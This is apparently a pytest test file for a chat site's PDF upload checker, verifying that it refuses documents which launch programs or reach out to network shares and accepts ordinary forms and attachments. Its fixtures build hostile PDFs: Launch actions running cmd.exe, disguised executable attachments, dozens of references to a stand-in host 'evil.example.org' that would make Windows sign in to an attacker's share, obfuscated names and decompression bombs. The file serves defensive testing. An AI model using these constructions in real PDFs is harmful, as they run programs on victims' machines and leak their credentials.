"""PDFs: opened as viewers open them, refused where they are no longer there or run programs."""

import io
import struct
import zlib

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name
from PIL import Image

from chat.files.accepted import inspect
from chat.tests.files import samples
from chat.tests.files.refusing import answer_to
from chatsite.files.inspection import pool
from chatsite.files.pdf import judging
from chatsite.files.pdf.judging import judge
from chatsite.files.verdict import Verdict
from chatsite.http.errors import FileNotOpened, FileRefused

LAUNCH = Dictionary(S=Name.Launch, F=b"cmd.exe")


def saved(change=None, **options) -> bytes:
    """A PDF of one page, changed by this function."""
    document = pikepdf.new()
    document.add_blank_page(page_size=(100, 100))
    document.pages[0].obj.Contents = document.make_stream(b"0 0 m 99 99 l S " * 200)
    if change:
        change(document)
    out = io.BytesIO()
    document.save(out, **options)
    return out.getvalue()


def attached(name: str, content: bytes):
    def attach(document):
        document.attachments["key"] = pikepdf.AttachedFileSpec(document, content, filename=name)

    return attach


def opening(action):
    return lambda document: setattr(document.Root, "OpenAction", action)


def in_an_annotation(document):
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 1, 1]), A=LAUNCH)
    document.pages[0].obj.Annots = Array([document.make_indirect(link)])


def by_an_indirect_name(document):
    document.Root.OpenAction = Dictionary(S=document.make_indirect(Name.Launch), F=b"cmd.exe")


HARMFUL = {
    "opening": opening(LAUNCH),
    "next": opening(Dictionary(S=Name.URI, URI="x", Next=Array([Dictionary(S=Name.JavaScript, JS="1"), LAUNCH]))),
    "additional": lambda document: setattr(document.Root, "AA", Dictionary(WC=LAUNCH)),
    "of a page": lambda document: setattr(document.pages[0].obj, "AA", Dictionary(O=LAUNCH)),
    "annotation": in_an_annotation,
    "indirect": by_an_indirect_name,
    "exe": attached("report.exe", b"x"),
    "hidden exe": attached("report.pdf\u202e.exe. ", b"x"),
    "script": attached("report.JS", b"x"),
    "query": attached("facture.iqy", b"x"),
    "library": attached("Documents.library-ms", b"x"),
    "search": attached("resultats.search-ms", b"x"),
    "link": attached("resultats.url", b"x"),
    "remote screen": attached("secretariat.rdp", b"x"),
    "named xml": attached("invoice.xml", b"MZ\x90\0"),
}
SHARE = "\\\\evil.example.org\\share\\a.pdf"


def to_file(kind, name, **keys):
    return opening(Dictionary(S=Name("/" + kind), F=Dictionary(Type=Name.Filespec, **{"F": name, **keys})))


def in_a_picture(document):
    picture = pikepdf.Stream(document, b"", Type=Name.XObject, Subtype=Name.Image, F=Dictionary(UF=SHARE))
    document.pages[0].obj.Resources = Dictionary(XObject=Dictionary(Im0=picture))


def by_an_indirect_text(document):
    document.Root.OpenAction = Dictionary(S=Name.GoToE, F=document.make_indirect(pikepdf.String(SHARE)))


def with_an_attachment(document):
    named = pikepdf.AttachedFileSpec(document, b"x", filename="a.xml").obj
    named.UF = pikepdf.String(SHARE)
    document.Root.OpenAction = Dictionary(S=Name.GoToR, F=named)


def link(target):
    def add(document):
        action = Dictionary(S=Name.URI, URI=target)
        linked = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 1, 1]), F=4, A=action)
        document.pages[0].obj.Annots = Array([document.make_indirect(linked)])

    return add


def form(xml):
    def add(document):
        document.Root.AcroForm = Dictionary(XFA=Array(["template", document.make_stream(xml)]))

    return add


# Each makes Windows sign in at somebody's computer.
ON_A_SHARE = {
    "GoToR": to_file("GoToR", SHARE),
    "GoToR, other letters": to_file("GoToR", "a.pdf", UF=SHARE),
    "GoToR as PDF writes it": to_file("GoToR", "/evil.example.org/share/a.pdf"),
    "GoToR of an address": to_file("GoToR", "file://evil/share/a.pdf"),
    "GoToR of an attachment": with_an_attachment,
    "GoToE": opening(Dictionary(S=Name.GoToE, F=SHARE)),
    "GoToE, indirect": by_an_indirect_text,
    "ImportData": to_file("ImportData", "//evil/share/a.fdf"),
    "SubmitForm": to_file("SubmitForm", "\\\\evil@SSL\\share"),
    "next": opening(Dictionary(S=Name.GoTo, Next=Dictionary(S=Name.GoToR, F=SHARE))),
    "picture": in_a_picture,
    "style sheet of a form": form(b"<?xml-stylesheet href='\\\\evil\\a.xsl'?><x/>"),
    "picture of a form": form(b"<x><image href='&#92;\\evil\\a.png'/></x>"),
    "attached file as a text": opening(Dictionary(S=Name.GoTo, FS=SHARE)),
    "clip": opening(Dictionary(S=Name.Rendition, R=Dictionary(C=Dictionary(S=Name.MCD, D=SHARE)))),
    "base of a clip": opening(Dictionary(S=Name.Rendition, R=Dictionary(MH=Dictionary(BU="file://evil/share/")))),
    "address on opening": opening(Dictionary(S=Name.URI, URI="file://evil/share")),
    "address after opening": opening(Dictionary(S=Name.GoTo, Next=Array([Dictionary(S=Name.URI, URI=SHARE)]))),
    "address of a page": lambda document: setattr(
        document.pages[0].obj, "AA", Dictionary(O=Dictionary(S=Name.URI, URI=SHARE))
    ),
}
HONEST = {
    "plain": None,
    "form": opening(Dictionary(S=Name.JavaScript, JS="app.alert('Bonjour')")),
    "link": opening(Dictionary(S=Name.URI, URI="https://example.org/Launch")),
    "invoice": attached("factur-x.xml", b"<?xml version='1.0'?><Invoice/>"),
    "signed": attached("report.pdf", b"%PDF-1.4"),
    "attached from a share": attached("\\\\serveur\\partage\\report.xml", b"<x/>"),
    "another volume": to_file("GoToR", "../tome 2/chapitre.pdf", UF="../tome 2/chapitre.pdf"),
    "named with a colon": to_file("GoToR", "rapport:final.pdf", Mac="Macintosh:Users:ada:rapport.pdf"),
    "of this machine": to_file("GoToR", "/C/Users/Ada/a.pdf", UF="/Users/ada/a.pdf"),
    "sent to the web": to_file("SubmitForm", "https://example.org/send?to=//host", FS=Name.URL),
    "sent by mail": to_file("SubmitForm", "mailto:ada@example.org?subject=12/1", FS=Name.URL),
    "form in XML": form(b"<x a='https://example.org/' b='note: //' c='\\'><image href='file:///C:/a.png'/></x>"),
    "link to a share": link("file://serveur/partage/"),
    "web page on opening": opening(Dictionary(S=Name.URI, URI="https://example.org/")),
}
WRITTEN = {
    "plainly": {},
    "in object streams": {"object_stream_mode": pikepdf.ObjectStreamMode.generate},
    "encrypted for nobody": {"encryption": pikepdf.Encryption(owner="owner", user="")},
}


@pytest.mark.parametrize("options", WRITTEN.values(), ids=WRITTEN)
@pytest.mark.parametrize("change", HARMFUL.values(), ids=HARMFUL)
def test_it_refuses_what_runs_a_program(change, options):
    assert answer_to(saved(change, **options)) == "file_runs_programs"


@pytest.mark.parametrize("change", ON_A_SHARE.values(), ids=ON_A_SHARE)
def test_it_refuses_what_leads_to_a_share(change):
    assert judge(saved(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)) is Verdict.USES_SHARE


def test_it_says_how_to_send_it_without_the_share():
    with pytest.raises(FileRefused, match="Print it to a new PDF") as refused:
        inspect(saved(ON_A_SHARE["GoToR"]))
    assert refused.value.code == "file_has_external_parts"


@pytest.mark.parametrize("options", WRITTEN.values(), ids=WRITTEN)
@pytest.mark.parametrize("change", HONEST.values(), ids=HONEST)
def test_it_accepts_forms_and_attached_data(change, options):
    inspected = inspect(saved(change, **options))
    assert (inspected.extension, inspected.is_protected) == ("pdf", False)


def test_a_name_may_be_written_in_other_letters():
    assert answer_to(saved(opening(LAUNCH)).replace(b"/Launch", b"/L#61unch")) == "file_runs_programs"


def test_it_accepts_a_pdf_with_a_password_and_says_so():
    data = saved(encryption=pikepdf.Encryption(owner="owner", user="user"))
    assert inspect(data).is_protected
    assert answer_to(data[: len(data) // 2]) == "file_broken"
    assert answer_to(data.replace(b"/V 5", b"/V []")) == "file_broken"
    assert inspect(data.replace(b"/Filter /Standard", b"/Filter /Adobe.PubSec")).is_protected


@pytest.mark.parametrize(
    ("data", "answer"),
    [
        (b"\xef\xbb\xbf" + samples.pdf(), "pdf"),
        (b"x" * 1024 + samples.pdf(), "pdf"),
        (b"x" * 1025 + samples.pdf(), "file_type_refused"),
        (samples.pdf() + b"\0" * 5000, "pdf"),
        (samples.pdf() + b"<html>" * 1000, "pdf"),
        (samples.pdf().replace(b"%%EOF", b""), "pdf"),
        (samples.pdf()[: len(samples.pdf()) // 2], "file_broken"),
        (b"%PDF-1.4 hello world %%EOF", "file_broken"),
        (b"%PDF-1.7\n%%EOF", "file_broken"),
        (b"%PDF-1.4" + b"\0" * 5000 + b"%%EOF", "file_broken"),
    ],
)
def test_it_accepts_what_viewers_open(data, answer):
    assert answer_to(data) == answer


def test_zeros_in_place_of_a_scan_are_no_document():
    scan = samples.encoded(samples.noise(300, 400), "PDF")
    middle = len(scan) - 2048
    assert answer_to(scan) == "pdf"
    assert answer_to(scan[:1024] + bytes(middle) + scan[-1024:]) == "file_broken"


BLACK = zlib.compress(bytes(4_000_000), 9)
EVEN = samples.encoded(Image.new("L", (1600, 1600)), "JPEG", optimize=True)


def drawing(data, filters):
    def draw(document):
        picture = pikepdf.Stream(document, data, Type=Name.XObject, Subtype=Name.Image, Filter=filters)
        document.pages[0].obj.Resources = Dictionary(XObject=Dictionary(Im0=picture))

    return draw


@pytest.mark.parametrize("options", WRITTEN.values(), ids=WRITTEN)
@pytest.mark.parametrize(
    ("data", "filters"),
    [
        (BLACK, Name.FlateDecode),
        (BLACK, Array([Name.FlateDecode])),
        (EVEN, Name.DCTDecode),
        (EVEN + b"\n", Name.DCTDecode),
        (zlib.compress(EVEN), Array([Name.FlateDecode, Name.DCTDecode])),
        (samples.encoded(Image.new("CMYK", (1600, 1600)), "JPEG", optimize=True), Name.DCTDecode),
        (samples.encoded(Image.new("L", (4000, 4000)), "JPEG", progressive=True), Name.DCTDecode),
    ],
)
def test_an_even_picture_is_one(data, filters, options):
    """Packed, it is mostly zeros."""
    assert judge(saved(drawing(data, filters), **options)) is Verdict.FINE


@pytest.mark.parametrize("options", [{}, {"optimize": True}, {"progressive": True}], ids=["plain", "short", "passes"])
def test_zeros_inside_of_a_picture_are_none(options):
    photo = samples.encoded(samples.noise(300, 400), "JPEG", **options)
    hole = photo[:1024] + bytes(len(photo) - 2048) + photo[-1024:]
    assert judge(saved(drawing(photo, Name.DCTDecode))) is Verdict.FINE
    assert judge(saved(drawing(hole, Name.DCTDecode))) is Verdict.BROKEN


@pytest.mark.parametrize(("missing", "answer"), [(1, "pdf"), (2, "file_broken")])
def test_a_missing_part_of_a_page_draws_nothing(missing, answer):
    def draw(document):
        drawn = pikepdf.Stream(document, b"q Q")
        document.pages[0].obj.Contents = Array([None] * missing + [drawn][missing - 1 :])

    assert answer_to(saved(draw)) == answer


def test_it_gives_up_on_what_takes_too_long(monkeypatch):
    monkeypatch.setattr(judging, "_MAX_SECONDS", -1)
    assert judge(saved()) is Verdict.UNBOUNDED
    monkeypatch.setattr(pool, "run", lambda *_, **__: {"value": "unbounded"})
    assert answer_to(saved()) == "file_unpacks_too_large"


@pytest.mark.parametrize("answer", [{}, {"value": None}, {"value": "good"}, {"value": []}, {"verdict": "fine"}])
def test_an_answer_that_is_no_verdict_lets_nothing_in(answer, monkeypatch):
    monkeypatch.setattr(pool, "run", lambda *_, **__: answer)
    with pytest.raises(FileNotOpened):
        inspect(saved())


def test_it_is_opened_in_a_child_process(monkeypatch):
    monkeypatch.setattr(judging, "judge", lambda _: pytest.fail("opened here"))
    assert answer_to(saved()) == "pdf"


def hiding(action: bytes) -> bytes:
    """A PDF of one page, whose action on opening lies in an object stream."""
    packed = zlib.compress(b"4 0 " + action, 1)
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        5: b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (len(packed), packed),
    }
    out, rows = b"%PDF-1.5\n", [bytes(7)]
    for number, written in objects.items():
        rows.append(struct.pack(">BIH", 1, len(out), 0))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, written)
    table = b"".join([*rows[:4], struct.pack(">BIH", 2, 5, 0), rows[4]])
    index = b"<</Type/XRef/Size 6/W[1 4 2]/Root 1 0 R/Length %d>>stream\n%s\nendstream" % (len(table), table)
    return out + b"6 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF" % (index, len(out))


def test_nothing_hides_behind_a_limit_of_memory():
    launch = b"<</S/Launch/F(cmd.exe)>>"
    assert judge(hiding(launch)) is Verdict.RUNS_PROGRAMS
    assert judge(hiding(launch + b" " * 17_000_000)) is Verdict.UNBOUNDED
    crowded = hiding(b"<</S/Launch/X[%s]>>" % (b"[%s]" % (b"<<>>" * 50_000) * 20))
    assert pool.run("chatsite.files.pdf.judging:judge", crowded, memory=64 * pool.MEGABYTE) == {"value": "unbounded"}


def test_it_inflates_no_bomb():
    """An object stream of 40 MB: its objects count as lost."""
    whole = saved(object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=False)
    begin = whole.index(b"stream\n", whole.index(b"/ObjStm")) + len(b"stream\n")
    end = whole.index(b"\nendstream", begin)
    packed = zlib.compress(whole[begin:end] + b" " * 40_000_000, 1)
    head = whole[:begin].replace(b"/ObjStm", b"/ObjStm /Filter /FlateDecode", 1)
    assert judge(head + packed + whole[end:]) is Verdict.BROKEN
